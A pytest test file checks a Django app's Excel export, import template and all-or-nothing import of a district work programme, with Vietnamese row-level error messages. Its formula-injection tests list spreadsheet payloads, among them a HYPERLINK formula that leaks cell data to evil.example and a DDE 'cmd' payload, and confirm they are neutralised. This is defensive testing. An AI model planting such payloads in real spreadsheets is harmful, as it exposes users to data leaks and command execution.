"""The work programme in Excel, as users meet it: download the programme, download the import
template, upload a filled template (all rows or none, every bad row listed by its number)."""
from __future__ import annotations

import datetime as dt
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from khoi.models import CoordinationRule
from programme import excel, selectors, services
from programme.models import Activity, ActivityStatus

pytestmark = pytest.mark.django_db
D = dt.date

HEADER = [label for _key, label, _width in excel.COLUMNS]


def rule(code):
    return CoordinationRule.objects.get(catalog_unit__code="91", code=code)  # province P1's catalog


def save(world, actor, **fields):
    d = world.districts["own"]
    defaults = {"title": "Hoạt động", "content": "", "tags": [], "rule": rule("C5"), "owner": None, "subcommittee": None,
                "target_groups": [], "areas": [], "participants": [], "start_date": D(2024, 12, 16),
                "end_date": D(2024, 12, 17), "status": ActivityStatus.PLANNED, "result_notes": "", **fields}
    return services.activity_save(actor=world.users[actor], programme=d.programme, **defaults)


def upload(content: bytes, name: str = "chuong-trinh.xlsx") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")


def filled_template(programme, rows: list[dict], *, gap_after: int | None = None) -> bytes:
    """The downloaded template with rows typed in from row 3, by column label."""
    wb = load_workbook(io.BytesIO(excel.template_workbook(programme)))
    ws = wb[excel.TEMPLATE_SHEET]
    columns = {cell.value: cell.column for cell in ws[2]}
    excel_row = 3
    for i, row in enumerate(rows):
        for label, value in row.items():
            ws.cell(excel_row, columns[label], value)
        excel_row += 2 if gap_after is not None and i == gap_after else 1
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def import_as(world, actor, content: bytes):
    d = world.districts["own"]
    return excel.import_workbook(actor=world.users[actor], programme=d.programme, file=upload(content))


# --- formula injection ------------------------------------------------------------------------

@pytest.mark.parametrize("payload", [
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Bấm vào đây\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n",
])
def test_a_value_that_would_start_a_formula_gets_a_leading_apostrophe(payload):
    assert excel.spreadsheet_safe(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Hội nghị tổng kết", "", "Tập huấn 2-3 ngày", "a=b", "'đã có dấu nháy", "1+1"])
def test_ordinary_text_is_left_alone(value):
    assert excel.spreadsheet_safe(value) == value


def test_control_characters_a_spreadsheet_cannot_hold_are_dropped_before_the_check():
    assert excel.spreadsheet_safe("\x00=1+1") == "'=1+1"
    assert excel.spreadsheet_safe("Tên\x07 hoạt động") == "Tên hoạt động"
    assert excel.spreadsheet_safe(None) == ""


# --- export ---------------------------------------------------------------------------------

def test_the_downloaded_programme_lists_the_activities_with_their_dates_and_codes(world):
    d = world.districts["own"]
    created = save(world, "head", title="=HYPERLINK(\"http://evil.example\",\"Bấm vào\")", rule=rule("C3"),
                   subcommittee=d.subs["office"], target_groups=["cadres", "women"], areas=[d.commune],
                   tags=["tổng kết", "thi đua"], start_date=D(2024, 12, 16), end_date=D(2024, 12, 17))
    activities = selectors.activity_list_for_user(world.users["head"], programme=d.programme)
    expected = list(activities)

    content = excel.programme_workbook(d.programme, activities)

    wb = load_workbook(io.BytesIO(content))
    ws = wb[excel.PROGRAMME_SHEET]
    assert ws["A1"].value == f"CHƯƠNG TRÌNH CÔNG TÁC NĂM 2024 — {d.body.name}"
    assert [c.value for c in ws[2]] == HEADER
    assert ws.freeze_panes == "C3"
    col = {label: i for i, label in enumerate(HEADER)}
    rows = [r for r in ws.iter_rows(min_row=3, values_only=True) if r[col["Tên hoạt động"]]]
    assert len(rows) == len(expected)
    for row, activity in zip(rows, expected):
        title = row[col["Tên hoạt động"]]
        assert title == (("'" + activity.title) if activity.title.startswith("=") else activity.title)
        assert row[col["Mã quy tắc"]] == activity.rule.code
        assert row[col["Từ ngày"]].date() == activity.start_date
        assert row[col["Đến ngày"]].date() == activity.end_date
        assert row[col["Tổ chức chủ trì"]] == (activity.owner.org_type.code if activity.owner else "CHUNG")
        assert row[col["Chung/Riêng"]] == ("Riêng" if activity.owner else "Chung")
    mine = next(r for r in rows if r[col["Tên hoạt động"]].startswith("'="))
    assert mine[col["Tên hoạt động"]] == "'" + created.title
    assert mine[col["Địa bàn"]] == d.commune.code
    assert mine[col["Chủ đề"]] == "tổng kết; thi đua"
    assert mine[col["Bộ phận phụ trách"]] == d.subs["office"].name
    assert mine[col["Đối tượng"]] == "Cán bộ các tổ chức; Phụ nữ"
    assert mine[col["Trạng thái"]] == "Kế hoạch"
    assert set(mine[col["Tổ chức tham gia"]].split("; ")) == set(d.orgs)  # every member of a joint activity
    mine_cells = next(r for r in ws.iter_rows(min_row=3) if r[col["Tên hoạt động"]].value == "'" + created.title)
    assert mine_cells[col["Từ ngày"]].number_format == "dd/mm/yyyy"
    assert mine_cells[col["Tên hoạt động"]].data_type == "s"
    # months group the rows
    assert any(c.value == "Tháng 12/2024" for c in ws["A"])
    # no formula anywhere in the file
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_the_downloaded_programme_can_be_uploaded_again_as_is(world):
    """Month rows and the apostrophe of a guarded title do not get in the way of a re-import."""
    d = world.districts["own"]
    source = save(world, "head", title="=Hội nghị thử", rule=rule("C1"), start_date=D(2024, 2, 1), end_date=D(2024, 2, 2))
    content = excel.programme_workbook(d.programme, Activity.objects.filter(pk=source.pk))
    source.delete()

    result = import_as(world, "head", content)

    assert result.errors == [] and result.created == 1
    again = Activity.objects.get(programme=d.programme, title="=Hội nghị thử")
    assert (again.rule, again.owner, again.start_date) == (rule("C1"), None, D(2024, 2, 1))


# --- template -------------------------------------------------------------------------------

def test_the_template_has_the_header_and_lists_every_valid_code(world):
    d = world.districts["own"]

    wb = load_workbook(io.BytesIO(excel.template_workbook(d.programme)))

    ws = wb[excel.TEMPLATE_SHEET]
    assert [c.value for c in ws[2]] == HEADER
    assert ws.max_row == 2  # nothing but the title and the header
    guide = [c for row in wb[excel.GUIDE_SHEET].iter_rows(values_only=True) for c in row if c is not None]
    codes = [f"C{i}" for i in range(1, 10)] + [f"R{i}" for i in range(1, 15)]
    assert all(code in guide for code in codes)
    assert "Hội nghị tổng kết chung" in guide  # the province's own name for C3
    assert {"CHUNG", "MTTQ", "HLHPN", "DTN", "HND", "HCCB"} <= set(guide)
    assert {"propaganda", "office", "Kế hoạch", "Hoàn thành", "Phụ nữ", "women"} <= set(guide)
    assert {d.unit.code, d.commune.code} <= set(guide)
    assert world.districts["other_district"].commune.code not in guide
    lists = {str(v.sqref): v.formula1 for v in ws.data_validations.dataValidation}
    assert set(lists) == {f"{excel.LETTERS[k]}3:{excel.LETTERS[k]}2002" for k in ("rule", "owner", "subcommittee", "status")}
    assert all(f.startswith("'Hướng dẫn'!$A$") for f in lists.values())


# --- import ---------------------------------------------------------------------------------

def test_the_head_imports_a_filled_template(world):
    d = world.districts["own"]
    content = filled_template(d.programme, [
        {"STT": 1, "Tên hoạt động": "Tuyên truyền bầu cử đại biểu Quốc hội", "Nội dung": "Dòng một\nDòng hai",
         "Chủ đề": "bầu cử; tuyên truyền", "Mã quy tắc": "c5", "Tổ chức chủ trì": "CHUNG",
         "Tổ chức tham gia": "MTTQ; HLHPN; DTN", "Bộ phận phụ trách": "Tiểu ban Tuyên truyền – Vận động",
         "Đối tượng": "ho gia dinh tren dia ban; youth", "Địa bàn": d.commune.code,
         "Từ ngày": dt.datetime(2024, 3, 4), "Đến ngày": "15/03/2024", "Trạng thái": "Hoàn thành"},
        {"STT": 2, "Tên hoạt động": "Giám sát chính sách bảo hiểm y tế", "Mã quy tắc": "C6",
         "Bộ phận phụ trách": "inspection", "Từ ngày": "2/5/2024"},
    ])
    count = Activity.objects.count()

    result = import_as(world, "head", content)

    assert result.errors == []
    assert result.created == 2 and Activity.objects.count() == count + 2
    first = Activity.objects.get(programme=d.programme, title="Tuyên truyền bầu cử đại biểu Quốc hội")
    assert first.rule == rule("C5") and first.owner is None
    assert list(first.areas.all()) == [d.commune]
    assert (first.start_date, first.end_date) == (D(2024, 3, 4), D(2024, 3, 15))
    assert set(first.participants.all()) == {d.orgs["MTTQ"], d.orgs["HLHPN"], d.orgs["DTN"]}
    assert first.subcommittee == d.subs["propaganda"]
    assert first.target_groups == ["households", "youth"]
    assert first.tags == ["bầu cử", "tuyên truyền"] and first.content == "Dòng một\nDòng hai"
    assert first.status == ActivityStatus.DONE and first.created_by == world.users["head"]
    second = Activity.objects.get(programme=d.programme, title="Giám sát chính sách bảo hiểm y tế")
    assert (second.start_date, second.end_date, second.status) == (D(2024, 5, 2), D(2024, 5, 2), ActivityStatus.PLANNED)
    assert second.subcommittee == d.subs["inspection"] and list(second.areas.all()) == []


def test_the_womens_union_imports_its_own_activities(world):
    d = world.districts["own"]
    content = filled_template(d.programme, [
        {"Tên hoạt động": "Hội thi nữ công gia chánh", "Mã quy tắc": "R6", "Tổ chức chủ trì": "hlhpn",
         "Địa bàn": f"{d.unit.code}; {d.commune.code}", "Từ ngày": "08/03/2024", "Đối tượng": "Phụ nữ"},
    ])

    result = import_as(world, "deputy", content)

    assert result.errors == [] and result.created == 1
    own = Activity.objects.get(programme=d.programme, title="Hội thi nữ công gia chánh")
    assert own.owner == d.orgs["HLHPN"] and own.rule == rule("R6")
    assert set(own.areas.all()) == {d.unit, d.commune}
    assert list(own.participants.all()) == [d.orgs["HLHPN"]]


def test_bad_rows_import_nothing_and_each_is_reported_with_its_row_number(world):
    d = world.districts["own"]
    good = {"Tên hoạt động": "Hoạt động đúng", "Mã quy tắc": "C5", "Từ ngày": "01/04/2024", "Đến ngày": "02/04/2024"}
    content = filled_template(d.programme, [
        good,                                                            # row 3
        {**good, "Tên hoạt động": "Quy tắc lạ", "Mã quy tắc": "C99"},    # row 4
        {**good, "Tên hoạt động": "Ngày ngược", "Từ ngày": "10/04/2024", "Đến ngày": "09/04/2024"},  # row 5
        # row 6 is left empty
        {**good, "Tên hoạt động": "Xã huyện khác", "Địa bàn": world.districts["other_district"].commune.code},  # row 7
        {**good, "Tên hoạt động": "Tổ chức lạ", "Mã quy tắc": "R6", "Tổ chức chủ trì": "XYZ"},  # row 8
        {**good, "Tên hoạt động": "Ngày sai", "Từ ngày": "31/02/2024"},  # row 9
    ], gap_after=2)
    count = Activity.objects.count()

    result = import_as(world, "head", content)

    assert result.created == 0
    assert Activity.objects.count() == count
    assert not Activity.objects.filter(title="Hoạt động đúng").exists()
    by_row = {}
    for row, message in result.errors:
        assert message.startswith(f"Dòng {row}: ")
        by_row.setdefault(row, []).append(message)
    assert set(by_row) == {4, 5, 7, 8, 9}
    assert by_row[4] == ["Dòng 4: Mã quy tắc “C99” không có trong danh mục đang áp dụng."]
    assert "Ngày kết thúc phải sau hoặc bằng ngày bắt đầu" in by_row[5][0]
    assert "“91201” không thuộc địa bàn của Cơ quan Khối huyện Đầm Hà" in by_row[7][0]
    assert "Tổ chức chủ trì “XYZ” không phải là tổ chức thành viên" in by_row[8][0]
    assert by_row[9] == ["Dòng 9: Từ ngày “31/02/2024” không phải là ngày hợp lệ (ghi dạng dd/mm/yyyy)."]


def test_rows_the_user_may_not_add_are_refused(world):
    d = world.districts["own"]
    content = filled_template(d.programme, [
        {"Tên hoạt động": "Hoạt động chung", "Mã quy tắc": "C5", "Từ ngày": "01/04/2024"},
        {"Tên hoạt động": "Việc riêng của Hội Phụ nữ", "Mã quy tắc": "R6", "Tổ chức chủ trì": "HLHPN",
         "Từ ngày": "01/04/2024"},
    ])
    count = Activity.objects.count()

    result = import_as(world, "head", content)  # the head plans joint work, not an organization's own

    assert result.created == 0 and Activity.objects.count() == count
    assert result.errors == [(4, "Dòng 4: Bạn không có quyền thêm hoạt động riêng của Hội LHPN huyện Đầm Hà.")]


@pytest.fixture
def joint_conference(world):
    return save(world, "head", title="Hội nghị tổng kết công tác năm 2024 của Cơ quan Khối", rule=rule("C3"))


def test_the_deputy_cannot_import_her_own_year_end_review_while_the_joint_one_exists(world, joint_conference):
    d = world.districts["own"]
    content = filled_template(d.programme, [
        {"Tên hoạt động": "Tập huấn cán bộ Hội cơ sở", "Mã quy tắc": "R5", "Tổ chức chủ trì": "HLHPN",
         "Từ ngày": "02/12/2024"},
        {"Tên hoạt động": "Hội nghị tổng kết công tác Hội năm 2024", "Mã quy tắc": "C3", "Tổ chức chủ trì": "HLHPN",
         "Từ ngày": "09/12/2024", "Đến ngày": "09/12/2024"},
    ])
    count = Activity.objects.count()

    result = import_as(world, "deputy", content)

    assert result.created == 0 and Activity.objects.count() == count
    assert len(result.errors) == 1
    row, message = result.errors[0]
    assert row == 4 and message.startswith("Dòng 4: Đây là việc chung của cơ quan khối (quy tắc C3)")
    assert "Hội nghị tổng kết công tác năm 2024 của Cơ quan Khối" in message
    assert "<a" not in message and "&" not in message


# --- the file itself ------------------------------------------------------------------------

def test_a_file_that_is_not_xlsx_is_refused_with_a_clear_message(world):
    result = import_as(world, "head", b"%PDF-1.4 not a spreadsheet")
    assert result.created == 0
    assert result.errors == [(0, "Tệp tải lên không phải là tệp Excel .xlsx. Hãy dùng tệp mẫu tải về từ trang này.")]


def test_an_old_xls_file_is_refused_with_how_to_convert_it(world):
    result = import_as(world, "head", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100)
    assert "(.xls)" in result.errors[0][1] and ".xlsx" in result.errors[0][1]


def test_a_zip_that_is_not_a_workbook_is_refused(world):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "không phải bảng tính")
    result = import_as(world, "head", buffer.getvalue())
    assert result.created == 0 and result.errors[0][0] == 0 and "không đọc được" in result.errors[0][1]


def test_a_file_over_5_mb_is_refused(world):
    result = import_as(world, "head", b"PK\x03\x04" + b"\0" * (5 * 1024 * 1024))
    assert result.errors == [(0, "Tệp quá lớn: tối đa 5 MB. Hãy chia chương trình thành nhiều tệp.")]


def test_a_sheet_without_the_header_row_is_refused(world):
    wb = Workbook()
    wb.active.append(["Tên", "Ngày"])
    wb.active.append(["Hội nghị", "01/01/2024"])
    buffer = io.BytesIO()
    wb.save(buffer)
    result = import_as(world, "head", buffer.getvalue())
    assert result.errors[0][0] == 0 and "Không tìm thấy dòng tiêu đề" in result.errors[0][1]


def test_more_than_2000_rows_are_refused(world):
    wb = Workbook()
    ws = wb.active
    ws.append(HEADER)
    for i in range(excel.MAX_ROWS + 1):
        ws.append([i + 1, f"Hoạt động {i}", None, None, "C5"])
    buffer = io.BytesIO()
    wb.save(buffer)
    count = Activity.objects.count()
    result = import_as(world, "head", buffer.getvalue())
    assert result.created == 0 and Activity.objects.count() == count
    assert result.errors == [(0, "Tệp có quá 2.000 dòng hoạt động: hãy chia thành nhiều tệp.")]


def test_the_download_reads_the_database_a_fixed_number_of_times(world):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    d = world.districts["own"]
    head = world.users["head"]

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            excel.programme_workbook(d.programme, selectors.activity_list_for_user(head, programme=d.programme))
        return len(captured)

    before = queries()
    for day in range(1, 6):
        save(world, "head", title=f"Hoạt động ngày {day}", areas=[d.commune], subcommittee=d.subs["office"],
             start_date=D(2024, 10, day), end_date=D(2024, 10, day))
    assert queries() == before
